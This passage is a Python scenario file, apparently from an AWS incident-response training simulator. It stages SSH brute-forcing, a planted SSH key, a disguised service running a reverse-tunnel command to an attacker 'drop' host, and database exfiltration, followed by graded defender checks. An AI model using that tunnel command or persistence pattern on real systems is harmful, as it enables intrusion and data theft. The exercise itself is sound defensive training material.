"""SSH and PostgreSQL opened to the world "for an afternoon": guessed in, read, carried out."""

from __future__ import annotations

import base64
import ipaddress
import random
from datetime import timedelta
from pathlib import Path
from string import Template

from botocore.exceptions import EndpointConnectionError

from simulator.hosts.disks import disk_of
from simulator.hosts.host import Host, Process, Service, Ssh, Web
from simulator.hosts.machine import find, machines
from simulator.network.addresses import text
from simulator.network.packet import Packet
from simulator.network.reach import decide
from simulator.network.survey import survey
from simulator.scenario import Actor, Phase, Routine, Scenario, check, way

HERE = Path(__file__).parent
SSH, POSTGRES, APP = 22, 5432, 8080
PORTS = {"ssh": SSH, "database": POSTGRES}


def policy(name, **values):
    """A document of policies/ with its $names filled in."""
    return Template((HERE / "policies" / f"{name}.json").read_text()).substitute(values)


# --- the cast -----------------------------------------------------------------------------------

CLI = "aws-cli/2.17.62 md/awscrt#0.21.2 ua/2.0 os/macos#23.6.0 md/arch#arm64 lang/python#3.12.6"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
NOBODY = "-"

scenario = Scenario(
    title="Open for an afternoon",
    pillar="Infrastructure protection",
    severity="high",
    difficulty=2,
    minutes=75,
    attack=("T1133", "T1110.001", "T1098.004", "T1572", "T1048"),
    controls=("5.1", "5.2", "5.3", "5.4", "EC2.2", "EC2.13", "EC2.21"),
    principals={
        "opener": Actor("opener_key", "head office", CLI),
        "administrator": Actor("administrator_key", "head office", CLI),
        "customer": Actor(None, "homes", BROWSER),
        "regular": Actor(None, "phones", BROWSER),
        "fleet": Actor(None, "head office", NOBODY),
        "packages": Actor(None, "package mirror", NOBODY),
        "monitor": Actor(None, "monitoring", NOBODY),
        "scanner": Actor(None, "research", NOBODY),
        "bot_one": Actor(None, "hosting", NOBODY, hostile=True),
        "bot_two": Actor(None, "vps", NOBODY, hostile=True),
        "bot_three": Actor(None, "botnet", NOBODY, hostile=True),
        "drop": Actor(None, "bulletproof", NOBODY, hostile=True),
        "returning": Actor(None, "vpn exit", NOBODY, hostile=True),
    },
    built=timedelta(days=4),
    injected=(timedelta(days=1.6), timedelta(days=2.4)),
    attacked=(timedelta(hours=9), timedelta(hours=14)),
    cause=(
        "SSH and PostgreSQL were opened to the whole internet for an afternoon, by ${opener_arn}, and "
        "stayed open. One opening was in the group that everybody looks at, the other in a second "
        "group and its prefix lists."
    ),
    findings={
        "openings": 'every rule that let the world in, as "sg-…:port"',
        "opener": "the ARN of whoever opened them",
        "evidence": "eventIDs from CloudTrail of the calls that opened them",
        "intruder": "the address from which somebody got in",
        "destination": "the address to which data was taken out",
        "bytes_out": "how many bytes were sent there, within 10 percent",
    },
    fidelity=(
        "Security groups, network ACLs, routes, gateways and tracked connections decide about every "
        "packet as they do on AWS, and flow logs tell of it. What is said in a session is not "
        "simulated: a password is right because the scenario says so. Hosts know a small set of "
        "programs. A change takes effect at once."
    ),
)


# --- the company --------------------------------------------------------------------------------


def baseline(admin, perform, rng, fake, settings, internet, packages):
    """Customers, a load balancer, two servers, a database, a host for jobs; no port for admins."""
    company = fake.unique.last_name().lower()
    suffix = f"{rng.randrange(16**4):04x}"
    repository = f"packages.{company}.example"
    internet.name(repository, packages.address)
    names = {
        "company": company.capitalize(),
        "flow_bucket": f"{company}-flow-logs-{suffix}",
        "results_bucket": f"{company}-athena-results-{suffix}",
        "product": rng.choice(["Larder", "Lantern", "Orchard", "Parcel", "Saddle", "Teapot"]),
        "repository": repository,
        "jobs_name": rng.choice(["ops", "jobs", "batch", "jump"]) + f"-{rng.randint(1, 9)}",
        "base": rng.randint(16, 240),
        "keys_path": KEYS,
    }
    perform(build_network, names=names)
    perform(make_groups, names=names)
    perform(launch, names=names)
    perform(balance, names=names)
    perform(make_people)
    perform(log_flows, names=names)
    perform(admit_the_monitor)
    return names


def build_network(admin, names):
    """A VPC with both protocols: two public subnets, two private ones behind a NAT gateway."""
    ec2, base = admin.ec2, names["base"]
    vpc = ec2.create_vpc(CidrBlock=f"10.{base}.0.0/16", AmazonProvidedIpv6CidrBlock=True)["Vpc"]
    name(admin, vpc["VpcId"], names["company"].lower())
    (told,) = ec2.describe_vpcs(VpcIds=[vpc["VpcId"]])["Vpcs"]
    six = ipaddress.ip_network(told["Ipv6CidrBlockAssociationSet"][0]["Ipv6CidrBlock"])
    blocks = list(six.subnets(new_prefix=64))
    gateway = ec2.create_internet_gateway()["InternetGateway"]["InternetGatewayId"]
    ec2.attach_internet_gateway(InternetGatewayId=gateway, VpcId=vpc["VpcId"])
    subnets = {}
    for number, (what, zone) in enumerate(
        (kind, zone) for kind in ("public", "app") for zone in ("us-east-1a", "us-east-1b")
    ):
        third = number if what == "public" else 10 + number
        more = {"Ipv6CidrBlock": str(blocks[number])} if what == "public" else {}
        subnet = ec2.create_subnet(
            VpcId=vpc["VpcId"],
            CidrBlock=f"10.{base}.{third}.0/24",
            AvailabilityZone=zone,
            **more,
        )["Subnet"]["SubnetId"]
        name(admin, subnet, f"{what}-{zone[-1]}")
        subnets[f"{what}_{zone[-1]}"] = subnet
    address = ec2.allocate_address(Domain="vpc")["AllocationId"]
    nat = ec2.create_nat_gateway(SubnetId=subnets["public_a"], AllocationId=address)["NatGateway"]
    for what, targets in (
        (
            "public",
            (
                {"DestinationCidrBlock": "0.0.0.0/0", "GatewayId": gateway},
                {"DestinationIpv6CidrBlock": "::/0", "GatewayId": gateway},
            ),
        ),
        (
            "app",
            ({"DestinationCidrBlock": "0.0.0.0/0", "NatGatewayId": nat["NatGatewayId"]},),
        ),
    ):
        table = ec2.create_route_table(VpcId=vpc["VpcId"])["RouteTable"]["RouteTableId"]
        for target in targets:
            ec2.create_route(RouteTableId=table, **target)
        for zone in "ab":
            ec2.associate_route_table(RouteTableId=table, SubnetId=subnets[f"{what}_{zone}"])
    return {"vpc_id": vpc["VpcId"], "subnets": subnets, "vpc_cidr": f"10.{base}.0.0/16"}


def name(admin, resource, value):
    """The tag Name."""
    admin.ec2.create_tags(Resources=[resource], Tags=[{"Key": "Name", "Value": value}])


def make_groups(admin, names, vpc_id):
    """A group for each tier; each admits the one before it, by reference."""
    made = {}
    for tier, what in (
        ("alb", "Load balancer: the world"),
        ("app", "Application servers: the load balancer"),
        ("jobs", "Jobs: nobody, administrators come by Session Manager"),
        ("database", "PostgreSQL: application servers and jobs"),
    ):
        made[tier] = admin.ec2.create_security_group(
            GroupName=f"{names['company'].lower()}-{tier}", Description=what, VpcId=vpc_id
        )["GroupId"]
    for tier, port, sources in (
        ("alb", 80, {"IpRanges": [{"CidrIp": "0.0.0.0/0"}], "Ipv6Ranges": [{"CidrIpv6": "::/0"}]}),
        ("app", APP, {"UserIdGroupPairs": [{"GroupId": made["alb"]}]}),
        (
            "database",
            POSTGRES,
            {"UserIdGroupPairs": [{"GroupId": made["app"]}, {"GroupId": made["jobs"]}]},
        ),
    ):
        admit(admin, made[tier], port, **sources)
    return {f"{tier}_group": group for tier, group in made.items()}


def admit(who, group, port, **sources):
    """An inbound TCP rule."""
    rule = {"IpProtocol": "tcp", "FromPort": port, "ToPort": port, **sources}
    who.ec2.authorize_security_group_ingress(GroupId=group, IpPermissions=[rule])


def launch(admin, hosts, rng, names, subnets, app_group, jobs_group, database_group):
    """The hosts. The jobs' and the database's have public addresses, IPv4 and IPv6."""
    admin.iam.create_role(
        RoleName="fleet",
        AssumeRolePolicyDocument=policy("trust-service", service="ec2.amazonaws.com"),
    )
    admin.iam.attach_role_policy(
        RoleName="fleet", PolicyArn="arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"
    )
    admin.iam.create_instance_profile(InstanceProfileName="fleet")
    admin.iam.add_role_to_instance_profile(InstanceProfileName="fleet", RoleName="fleet")
    web = Web(f"Welcome to {names['product']}", name="gunicorn", version="22.0.0", user="app")
    shop = Host(services={SSH: Ssh(), APP: web})
    apps = [
        run(admin, f"app-{zone}", subnets[f"app_{zone}"], app_group, public=False) for zone in "ab"
    ]
    jobs = run(admin, names["jobs_name"], subnets["public_a"], jobs_group)
    database = run(admin, "database", subnets["public_b"], database_group)
    for instance in apps:
        hosts.equip(instance, shop)
    hosts.equip(jobs, Host(services={SSH: Ssh()}, files=jobs_files(rng, names)))
    hosts.equip(
        database,
        Host(
            services={
                SSH: Ssh(),
                POSTGRES: Service("postgres", "15.7", "/usr/bin/postgres -D /data", "postgres"),
            },
            packages={"postgresql15-server": "15.7"},
        ),
    )
    image = admin.ec2.create_image(
        InstanceId=jobs, Name=f"{names['jobs_name']}-golden", Description="The jobs' host, as built"
    )["ImageId"]
    return {
        "apps": apps,
        "jobs_id": jobs,
        "database_id": database,
        "golden_image": image,
        **{
            f"{what}_{key}": value
            for what, instance in (("jobs", jobs), ("database", database))
            for key, value in where(admin, instance).items()
        },
    }


def run(who, called, subnet, group, *, public=True, image="ami-12c6146b"):
    """Launch an instance; its id."""
    interface = {
        "DeviceIndex": 0,
        "SubnetId": subnet,
        "Groups": [group],
        "AssociatePublicIpAddress": public,
    }
    made = who.ec2.run_instances(
        ImageId=image,
        InstanceType="t3.small",
        MinCount=1,
        MaxCount=1,
        NetworkInterfaces=[interface],
        IamInstanceProfile={"Name": "fleet"},
        MetadataOptions={"HttpTokens": "required"},
        TagSpecifications=[
            {"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": called}]}
        ],
    )
    (instance,) = made["Instances"]
    if public:
        who.ec2.assign_ipv6_addresses(
            NetworkInterfaceId=instance["NetworkInterfaces"][0]["NetworkInterfaceId"],
            Ipv6AddressCount=1,
        )
    return instance["InstanceId"]


def where(who, instance):
    """An instance's addresses and its network interface."""
    told = who.ec2.describe_instances(InstanceIds=[instance])["Reservations"][0]["Instances"][0]
    (interface,) = told["NetworkInterfaces"]
    return {
        "private": told["PrivateIpAddress"],
        "public": told["PublicIpAddress"],
        "six": interface["Ipv6Addresses"][0]["Ipv6Address"],
        "interface": interface["NetworkInterfaceId"],
    }


def jobs_files(rng, names):
    """The company's own key is in authorized_keys, and should stay there."""
    key = public_key(rng)
    return {
        KEYS: f"{key} deploy@{names['company'].lower()}.example\n",
        "/etc/cron.d/report": f"0 3 * * * ec2-user /opt/{names['product'].lower()}/report.sh\n",
    }


KEYS = "/home/ec2-user/.ssh/authorized_keys"


def public_key(rng):
    """An SSH key that nobody has the other half of."""
    head = b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00 "
    return "ssh-ed25519 " + base64.b64encode(head + rng.randbytes(32)).decode()


def balance(admin, names, vpc_id, subnets, alb_group, apps, settings, jobs_id):
    """An Application Load Balancer in front of the servers."""
    balancer = admin.elbv2.create_load_balancer(
        Name=f"{names['company'].lower()}-shop",
        Subnets=[subnets["public_a"], subnets["public_b"]],
        SecurityGroups=[alb_group],
    )["LoadBalancers"][0]
    group = admin.elbv2.create_target_group(
        Name="app", Protocol="HTTP", Port=APP, VpcId=vpc_id, TargetType="instance"
    )["TargetGroups"][0]["TargetGroupArn"]
    admin.elbv2.register_targets(TargetGroupArn=group, Targets=[{"Id": each} for each in apps])
    admin.elbv2.create_listener(
        LoadBalancerArn=balancer["LoadBalancerArn"],
        Protocol="HTTP",
        Port=80,
        DefaultActions=[{"Type": "forward", "TargetGroupArn": group}],
    )
    settings["jobs"] = {"instance": jobs_id}
    return {"shop": balancer["DNSName"]}


def make_people(admin, fake, account_id):
    """Two engineers with the same rights. One of them will open the ports."""
    admin.iam.create_group(GroupName="platform")
    admin.iam.attach_group_policy(
        GroupName="platform", PolicyArn="arn:aws:iam::aws:policy/AmazonEC2FullAccess"
    )
    admin.iam.put_group_policy(
        GroupName="platform", PolicyName="sessions", PolicyDocument=policy("sessions")
    )
    facts = {}
    for who in ("opener", "administrator"):
        user = f"{fake.unique.first_name().lower()}.{fake.unique.last_name().lower()}"
        arn = admin.iam.create_user(UserName=user, Path="/people/")["User"]["Arn"]
        admin.iam.add_user_to_group(GroupName="platform", UserName=user)
        key = admin.iam.create_access_key(UserName=user)["AccessKey"]
        facts |= {f"{who}_user": user, f"{who}_arn": arn, f"{who}_key": key}
    return facts


LOG_FORMAT = """
version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end
action log-status vpc-id subnet-id instance-id tcp-flags type pkt-srcaddr pkt-dstaddr az-id
sublocation-type sublocation-id pkt-src-aws-service pkt-dst-aws-service flow-direction traffic-path
"""


def log_flows(admin, names, vpc_id, account_id):
    """A flow log of the VPC to a bucket; a workgroup to ask it."""
    for bucket in (names["flow_bucket"], names["results_bucket"]):
        admin.s3.create_bucket(Bucket=bucket)
    admin.s3.put_bucket_policy(
        Bucket=names["flow_bucket"],
        Policy=policy("flow-bucket", bucket=names["flow_bucket"], account=account_id),
    )
    admin.ec2.create_flow_logs(
        ResourceIds=[vpc_id],
        ResourceType="VPC",
        TrafficType="ALL",
        LogDestinationType="s3",
        LogDestination=f"arn:aws:s3:::{names['flow_bucket']}",
        LogFormat=" ".join(f"${{{each}}}" for each in LOG_FORMAT.split()),
    )
    admin.athena.create_work_group(
        Name="incident-response",
        Configuration={
            "ResultConfiguration": {"OutputLocation": f"s3://{names['results_bucket']}/"}
        },
        Description="Where the security team queries the flow logs",
    )


def admit_the_monitor(administrator, monitor, database_group):
    """A rule as it should be: the monitoring service alone, from the address that it publishes."""
    source = {"CidrIp": f"{monitor.address}/32", "Description": "Monitoring service"}
    admit(administrator, database_group, POSTGRES, IpRanges=[source])


# --- the mistake --------------------------------------------------------------------------------


def inject(
    *, opener, rng, vpc_id, jobs_group, database_group, jobs_interface, database_interface,
    flow_bucket, account_id,
):  # fmt: skip
    """Both ports are opened, one in the group itself, one by a second group and prefix lists."""
    direct = rng.choice(sorted(PORTS))
    (second,) = set(PORTS) - {direct}
    groups = {"ssh": jobs_group, "database": database_group}
    interfaces = {"ssh": jobs_interface, "database": database_interface}
    reason = rng.choice(
        ["temporary", "migration, remove today", "vendor call", "testing from home"]
    )
    opener.ec2.describe_security_groups(GroupIds=[groups[direct]])
    admit(
        opener,
        groups[direct],
        PORTS[direct],
        IpRanges=[{"CidrIp": "0.0.0.0/0", "Description": reason}],
        Ipv6Ranges=[{"CidrIpv6": "::/0", "Description": reason}],
    )
    opener.pause(minutes=rng.uniform(5, 40))
    lists = [
        opener.ec2.create_managed_prefix_list(
            PrefixListName=f"{reason.split()[0].strip(',')}-{family[-1]}",
            Entries=[{"Cidr": everybody, "Description": reason}],
            MaxEntries=4,
            AddressFamily=family,
        )["PrefixList"]["PrefixListId"]
        for family, everybody in (("IPv4", "0.0.0.0/0"), ("IPv6", "::/0"))
    ]
    extra = opener.ec2.create_security_group(
        GroupName=rng.choice(["tmp-access", "vendor-access", "migration", "quick-test"]),
        Description=reason,
        VpcId=vpc_id,
    )["GroupId"]
    admit(opener, extra, PORTS[second], PrefixListIds=[{"PrefixListId": each} for each in lists])
    opener.ec2.modify_network_interface_attribute(
        NetworkInterfaceId=interfaces[second], Groups=[groups[second], extra]
    )
    return {
        "direct": direct,
        "second": second,
        "direct_group": groups[direct],
        "extra_group": extra,
        "prefix_lists": lists,
        "openings": sorted([f"{groups[direct]}:{PORTS[direct]}", f"{extra}:{PORTS[second]}"]),
        "files": {
            f"runbook/{path.name}": Template(path.read_text()).substitute(
                flow_bucket=flow_bucket, account_id=account_id
            )
            for path in sorted((HERE / "runbook").glob("*.sql"))
        },
    }


# --- the company's days -------------------------------------------------------------------------


def workload(customer, regular, fleet, rng, shop, apps, database_private):
    """Customers look at the shop, which asks the database."""
    for visitor in (customer, regular):
        for _ in range(2):
            reply = visitor.get(f"http://{shop}/")
            assert reply.ok, f"the shop answers {reply.status}"
    for app in apps:
        fleet.connect(database_private, POSTGRES, source=app, received=rng.randint(9_000, 60_000))


def patch(fleet, rng, world, settings, repository, apps, database_id):
    """Every host fetches its updates."""
    for instance in (*apps, database_id, settings["jobs"]["instance"]):
        must_run(world, instance)
        fleet.connect(repository, 443, source=instance, received=rng.randint(2, 9) * 10**6)


def must_run(world, instance):
    """Nothing is done on a host that doesn't run.

    Raises:
        EndpointConnectionError: it doesn't.
    """
    machine = find(world, instance)
    if machine is None or not machine.runs:
        raise EndpointConnectionError(endpoint_url=f"ec2://{instance}")
    return machine


def watch(monitor, rng, database_public):
    """The monitoring service asks the database how it is."""
    for _ in range(3):
        monitor.connect(database_public, POSTGRES, received=rng.randint(3_000, 90_000))


def report(fleet, rng, world, settings, database_private):
    """The nightly report: the jobs' host reads the database."""
    jobs = settings["jobs"]["instance"]
    must_run(world, jobs)
    fleet.connect(database_private, POSTGRES, source=jobs, received=rng.randint(2, 6) * 10**6)


def administer(administrator, settings, database_id):
    """An administrator opens a session on each host, without any port."""
    ssm = administrator.ssm
    for instance in (settings["jobs"]["instance"], database_id):
        session = ssm.start_session(Target=instance)["SessionId"]
        ssm.send_command(
            InstanceIds=[instance],
            DocumentName="AWS-RunShellScript",
            Parameters={"commands": ["hostname"]},
        )
        ssm.terminate_session(SessionId=session)


def look_after(opener, administrator, rng):
    """Two engineers look at the network now and then."""
    who = rng.choice([opener, administrator])
    who.ec2.describe_instances()
    who.ec2.describe_security_groups()


def survey_the_internet(scanner, jobs_public, database_public):
    """A research project knocks once at some ports of everybody's addresses."""
    for address in (jobs_public, database_public):
        for port in (23, 3389, 8443):
            yield lambda address=address, port=port: scanner.connect(address, port)
    yield lambda: scanner.connect(jobs_public, SSH)


routines = (
    Routine(
        workload,
        every=timedelta(hours=5),
        since=timedelta(days=3.6),
        name="customers are served",
        pulse=timedelta(minutes=40),
    ),
    Routine(
        patch,
        every=timedelta(hours=23),
        since=timedelta(days=3.5),
        name="hosts fetch their updates",
        pulse=timedelta(hours=3),
    ),
    Routine(
        watch,
        every=timedelta(hours=4),
        since=timedelta(days=3.6),
        name="the monitoring service comes in",
        pulse=timedelta(minutes=50),
    ),
    Routine(
        report,
        every=timedelta(hours=24),
        since=timedelta(days=3.3),
        jitter=0.05,
        name="the report is written",
        pulse=timedelta(hours=6),
    ),
    Routine(
        administer,
        every=timedelta(hours=20),
        since=timedelta(days=3.4),
        jitter=0.3,
        name="administrators get onto the hosts",
        pulse=timedelta(hours=2),
    ),
    Routine(look_after, every=timedelta(hours=14), since=timedelta(days=3.4), jitter=0.3),
    Routine(survey_the_internet, every=timedelta(hours=30), since=timedelta(days=3.2)),
)


# --- the adversary ------------------------------------------------------------------------------


def detonate(*, bot_one, bot_two, bot_three, rng, perform, jobs_public, database_public, jobs_six):
    """A night of guessing from several places; one guess is right."""
    bots = [bot_one, bot_two, bot_three]
    lucky, rounds = rng.choice(bots), rng.randint(7, 10)
    perform(lambda: {"intruder_address": lucky.address})
    for turn in range(rounds):
        for bot in rng.sample(bots, len(bots)):
            bot.connect(jobs_public, SSH, times=rng.randint(3, 7), every=rng.uniform(2, 9))
        if turn % 3 == 1:
            other = rng.choice([bot for bot in bots if bot is not lucky])
            other.connect(database_public, POSTGRES, times=2, every=4.0)
            other.connect(jobs_six, SSH, source=six_of(other), times=3, every=3.0)
        lucky.pause(minutes=rng.uniform(9, 24))
    perform(get_in, lucky=lucky)
    lucky.pause(minutes=rng.uniform(2, 6))
    perform(settle, lucky=lucky)
    lucky.pause(minutes=rng.uniform(2, 12))
    perform(read_the_database, lucky=lucky)
    perform(carry_out, lucky=lucky)


def six_of(who):
    """An IPv6 address beside an actor's own."""
    octets = who.address.split(".")
    return f"2001:db8:{int(octets[1]):x}:{int(octets[2]):x}::{int(octets[3]):x}"


def get_in(lucky, rng, jobs_public):
    """The right password: a session, and not an attempt."""
    minutes = rng.uniform(35, 70)
    lucky.connect(
        jobs_public,
        SSH,
        bytes=rng.randint(150_000, 320_000),
        received=rng.randint(500_000, 1_100_000),
        seconds=minutes * 60,
    )


def settle(lucky, drop, rng, jobs_id):
    """A key for the next visit, and a tunnel out for when the door is shut."""
    called = rng.choice(["irqbalanced", "dbus-relay", "sysstat-agent", "cronie-sync"])
    user = rng.choice(["root@kali", "user@vps", "admin@localhost", "w@w"])
    key = f"{public_key(rng)} {user}"
    unit = f"/etc/systemd/system/{called}.service"
    host = lucky.on(jobs_id)
    deploy_key = host.run(f"cat {KEYS}").out
    host.write(KEYS, f"{deploy_key}{key}\n")
    command = f"/usr/local/sbin/{called} -R 0.0.0.0:2022:localhost:22 -p 443 t@{drop.address}"
    host.start(Process(called, command, started_by=unit))
    tunnel = lucky.connect(
        drop.address, 443, source=jobs_id, bytes=9_000, received=7_000, seconds=30, keep=True
    )
    return {
        "rogue_key": key,
        "rogue_process": called,
        "rogue_unit": unit,
        "tunnel": tunnel,
        "drop_address": drop.address,
    }


def read_the_database(lucky, rng, jobs_id, database_private):
    """All tables, from within."""
    loot = rng.randint(60, 240) * 10**6
    lucky.connect(
        database_private,
        POSTGRES,
        source=jobs_id,
        received=loot,
        bytes=loot // 60,
        seconds=rng.uniform(300, 600),
    )
    return {"loot": loot}


def carry_out(lucky, drop, rng, jobs_id, loot):
    """Compressed, in parts, to an address outside."""
    parts = [round(loot * rng.uniform(0.08, 0.2)) for _ in range(rng.randint(2, 4))]
    for part in parts:
        lucky.connect(drop.address, 443, source=jobs_id, bytes=part, seconds=rng.uniform(60, 400))
        lucky.pause(minutes=rng.uniform(1, 6))
    return {"carried": sum(parts)}


@way("what it knows of the company's open ports")
def open_ports(returning, world, jobs_interface):
    """It comes back to every public address of the company."""
    for address in public_addresses(world, jobs_interface):
        source = six_of(returning) if ":" in address else returning.address
        for port in (SSH, POSTGRES):
            yield lambda a=address, p=port, s=source: returning.connect(a, p, source=s)


@way("a connection out of the network that is still open", obtained="tunnel")
def open_tunnel(returning, world, jobs_id, tunnel, drop_address):
    """Its tunnel is kept open, and dug anew where the program that dug it still runs."""
    yield from tunnel_again(returning, world, jobs_id, tunnel, drop_address)


def public_addresses(world, interface):
    """Where the network that an interface is in can be reached from the internet: a scan."""
    for account in world.accounts.values():
        plan = survey(account)
        vpc = plan.ports[interface].edge.vpc if interface in plan.ports else None
        for address, (port, _) in sorted(plan.public.items()):
            if vpc in {None, port.edge.vpc}:
                yield text(address)


# --- the same again, from anywhere --------------------------------------------------------------


def strangers(world):
    """Addresses of nobody's in the drill: in both halves of IPv4, and in IPv6."""
    rng = random.Random(f"strangers/{world.seed}")
    fours = [
        f"{rng.randint(*firsts)}.{rng.randint(1, 254)}.{rng.randint(1, 254)}.{rng.randint(1, 254)}"
        for firsts in ((13, 99), (101, 126), (129, 168), (204, 222))
    ]
    documentation = f"2001:db8:{rng.randrange(16**4):x}::{rng.randint(1, 99)}"
    return (*fours, documentation, "2a0f:5707::99", "3fff:a:b::5")


def knock(returning, world, interface, port):
    """Every public address, from strangers' addresses of the same family."""
    for address in public_addresses(world, interface):
        for source in strangers(world):
            if (":" in source) is (":" in address):
                yield lambda a=address, s=source: returning.connect(a, port, source=s)


def ssh_again(returning, world, database_interface):
    """Guessing goes on, from new addresses."""
    yield from knock(returning, world, database_interface, SSH)


def database_again(returning, world, database_interface):
    """The database, straight from outside."""
    yield from knock(returning, world, database_interface, POSTGRES)


def tunnel_again(returning, world, jobs_id, tunnel, drop_address):
    """Over the connection that is open, and by a new one; as long as the program runs."""
    machine = find(world, jobs_id)
    if machine is None or not any(drop_address in one.command for one in machine.memory.processes):
        return
    size = {"bytes": 1_200, "received": 900}
    yield lambda: returning.connect(
        drop_address, 443, source=jobs_id, over=tunnel, keep=True, **size
    )
    yield lambda: returning.connect(drop_address, 443, source=jobs_id, **size)


# --- the checks ---------------------------------------------------------------------------------


def given(value):
    """An answer as a set."""
    return {value} if isinstance(value, str) else set(value)


@check(Phase.DETECT, points=4)
def names_the_openings(submitted, openings):
    """You named every rule that let the world in, by security group and port, and no other."""
    named = {each.replace(" ", "").removesuffix("/tcp") for each in given(submitted.openings)}
    wrong, missing = sorted(named - set(openings)), len(set(openings) - named)
    assert not wrong, (
        f"{wrong[0]} did not let the world in to administer anything. Give each opening as sg-…:port."
    )
    assert not missing, (
        f"{missing} of the {len(openings)} openings are not named. A rule's source can be a prefix "
        "list, and an instance can have more than one security group."
    )


@check(Phase.DETECT, points=3)
def names_who_opened(submitted, opener_arn):
    """You named who opened the ports, and nobody else."""
    wrong = sorted(given(submitted.opener) - {opener_arn})
    assert not wrong, f"{wrong[0]} opened nothing to the world: ask CloudTrail who did."


@check(Phase.DETECT, points=3)
def evidence_holds(submitted, records, opener_arn, openings):
    """Your evidence is the calls that opened the ports, and nothing else."""
    proving = {
        record["eventID"]: group
        for record in records
        if record["eventName"] == "AuthorizeSecurityGroupIngress"
        and record["userIdentity"]["arn"] == opener_arn
        for group in [record["requestParameters"]["groupId"]]
        if group in {each.partition(":")[0] for each in openings}
    }
    named = given(submitted.evidence)
    wrong = named - set(proving)
    assert not wrong, (
        f"{len(wrong)} of your {len(named)} events opened nothing to the world: evidence is the "
        "AuthorizeSecurityGroupIngress calls that did."
    )
    open_ = {proving[each] for each in set(proving) - named}
    assert not open_, f"No event that you submitted proves who opened {', '.join(sorted(open_))}."


@check(Phase.DETECT, points=4)
def names_the_intruder(submitted, intruder_address, thieves):
    """You named the address from which somebody got in by SSH, and no other."""
    for address in sorted(given(submitted.intruder) - {intruder_address}):
        assert address not in thieves, (
            f"{address} belongs to the adversary, and did not get in: a guess is short, a session is not."
        )
        assert address in thieves, f"{address} did no harm: an accusation needs evidence."


@check(Phase.DETECT, points=4)
def measures_what_left(submitted, drop_address, carried):
    """You named the address that the data went to, and how many bytes, within 10 percent."""
    wrong = sorted(given(submitted.destination) - {drop_address})
    assert not wrong, f"{wrong[0]} is not where the data went."
    said = "".join(given(submitted.bytes_out)).replace(",", "").replace("_", "")
    assert said.isdigit(), f"{said!r} is not a number of bytes."
    assert 0.9 * carried <= int(said) <= 1.1 * carried, (
        f"{int(said):,} bytes is more than 10 percent off what was sent to {drop_address}. Add up "
        "one direction, as one interface saw it."
    )


@check(Phase.CONTAIN, points=4)
def ssh_is_closed(replay):
    """Nobody from the internet gets to SSH on any address of the VPC, over IPv4 or IPv6."""
    ways = replay(ssh_again).allowed
    assert not ways, f"Strangers still get through to port 22: {ways}."


@check(Phase.CONTAIN, points=4)
def database_is_closed(replay):
    """Nobody from the internet gets to PostgreSQL on any address of the VPC, over IPv4 or IPv6."""
    ways = replay(database_again).allowed
    assert not ways, f"Strangers still get through to port 5432: {ways}."


@check(Phase.CONTAIN, points=4)
def tunnel_is_cut(replay):
    """What the intruder left running can't reach its master any more."""
    ways = replay(tunnel_again).allowed
    assert not ways, (
        f"The intruder's program still gets out from the jobs' host: {ways}. A connection that a "
        "security group tracks goes on after the rule is gone."
    )


def holds(files, rogue_key, rogue_unit):
    """What of the intruder's is among files."""
    key = rogue_key.split()[1]
    found = [path for path, body in files.items() if key in body]
    return found + [path for path in files if path == rogue_unit]


@check(Phase.ERADICATE, points=3)
def evidence_is_preserved(world, account_id, rogue_key, rogue_unit):
    """The disk of the host is kept as the intruder left it, before anything was cleaned.

    Reads what snapshots hold, and volumes that no running host writes to.
    """
    account = world.accounts[account_id]
    state = next((one.state for one in machines(world)), None)
    kept = dict(account.hosts.disks) if state is not None else {}
    busy = set()
    for volume in state.volumes.values() if state is not None else ():
        instance = volume.attachment.instance if volume.attachment else None
        if instance is not None and instance.state == "running":
            busy.add(volume.id)
        kept[volume.id] = disk_of(account, volume)
    alive = {*state.volumes, *state.snapshots} if state is not None else set()
    assert any(
        len(holds(disk.files, rogue_key, rogue_unit)) > 1
        for place, disk in kept.items()
        if place in alive - busy
    ), "No snapshot shows the host's disk as the intruder left it: take one before you clean."


@check(Phase.ERADICATE, points=4)
def nothing_is_left_behind(world, rogue_key, rogue_unit, rogue_process):
    """No running host has anything of the intruder's: no key, no program, nothing that starts it.

    Reads disks and processes: a key is not used, and a unit does nothing, until the next time.
    """
    for machine in machines(world):
        left = holds(machine.disk.files, rogue_key, rogue_unit)
        assert not left, f"{left[0]} on {machine.id} is still as the intruder left it."
        runs = [one for one in machine.memory.processes if one.name == rogue_process]
        assert not runs, f"The intruder's {rogue_process} (pid {runs[0].pid}) runs on {machine.id}."


CLOSED = ("ssh_is_closed", "database_is_closed")


@check(Phase.RECOVER, points=3, needs=CLOSED)
def customers_are_served(replay):
    """Customers reach the shop through the load balancer, and the shop reaches its database."""
    done = replay(workload)
    assert done.worked, f"The shop no longer works: {done.error}"


@check(Phase.RECOVER, points=3, needs=CLOSED)
def hosts_are_patched(replay):
    """Every host gets its updates from the repository outside."""
    done = replay(patch)
    assert done.worked, f"Updates no longer arrive: {done.error}"


@check(Phase.RECOVER, points=2, needs=CLOSED)
def monitoring_goes_on(replay):
    """The monitoring service reaches the database from its own address."""
    done = replay(watch)
    assert done.worked, f"The monitoring service is shut out: {done.error}"


@check(Phase.RECOVER, points=3, needs=CLOSED)
def jobs_are_done(replay):
    """The nightly report is written, and administrators get on the hosts by Session Manager."""
    for act, what in (
        (report, "The nightly report can't be written"),
        (administer, "Administrators no longer get on the hosts by Session Manager"),
    ):
        done = replay(act)
        assert done.worked, f"{what}: {done.error}"


SAMPLE = (
    *(20, 21, SSH, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 1433, 1521, 2022, 2049, 2222),
    *(2375, 3000, 3306, 3389, 5000, POSTGRES, 5433, 5601, 5900, 5985, 6379, 8000, APP, 8443, 9200),
    *(10022, 11211, 22022, 22222, 27017, 33060, 50022, 54321, 65022),
)


@check(Phase.LEARN, points=4)
def the_default_is_deny(world, account_id, database_interface):
    """The internet reaches nothing in the VPC but the load balancer's port.

    Asks the network, not the rules: packets to every public address, from both halves of IPv4 and
    from IPv6, to the ports on which things are administered, kept and moved to.
    """
    account = world.accounts[account_id]
    plan, now = survey(account), world.clock.now().timestamp()
    for address in public_addresses(world, database_interface):
        for source in strangers(world):
            if (":" in source) is not (":" in address):
                continue
            for port in SAMPLE:
